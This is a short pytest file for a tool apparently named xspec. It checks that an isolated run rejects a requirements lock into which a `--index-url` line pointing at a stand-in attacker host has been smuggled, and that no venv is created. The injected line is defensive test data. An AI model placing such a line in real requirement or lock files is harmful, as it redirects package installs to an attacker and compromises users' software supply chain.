"""`xspec run --isolated` writes the env's requirements into a venv's lock: the same
defence as the image targets, so a hand-edited lock line cannot redirect pip or uv."""

from __future__ import annotations

import pytest

from xspec.run.isolated import _make_venv
from xspec.run.layout import RunError

PACKAGE = {"name": "numpy", "specifier": "==1.26.4", "hashes": ["sha256:" + "a" * 64]}


def _env(requirements: str) -> dict:
    return {"name": "e", "python": "3.11.7", "packages": [PACKAGE], "requirements": requirements,
            "index_url": None}


def test_an_injected_requirements_line_is_refused_before_uv_runs(tmp_path):
    env = _env(f"numpy==1.26.4 --hash=sha256:{'a' * 64}\n--index-url https://attacker.invalid/simple\n")
    with pytest.raises(RunError, match="--isolated: .*--index-url"):
        _make_venv(None, env, tmp_path / "venv")
    assert not (tmp_path / "venv").exists()
